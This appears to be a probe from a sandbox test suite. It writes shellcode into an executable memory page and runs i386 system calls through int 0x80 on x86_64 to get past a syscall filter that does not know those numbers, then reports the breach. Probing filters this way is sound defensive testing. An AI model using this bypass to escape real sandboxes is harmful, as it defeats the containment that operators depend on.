"""Goal: the system calls of i386 by int 0x80, whose numbers the filter does not know."""
# machine: x86_64

ctypes = modules["ctypes"]
# mov eax, 20 (getpid of i386 = writev of x86_64); int 0x80; ret
CODE = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"
page = syscall(9, 0, 4096, 7, 0x22, -1, 0)
ctypes.memmove(page, CODE, len(CODE))
FOUND.append("machine code is ready")


def double(x):
    breached(f"int 0x80 came back with {ctypes.CFUNCTYPE(ctypes.c_int)(page)()}")
    raise RuntimeError(report())
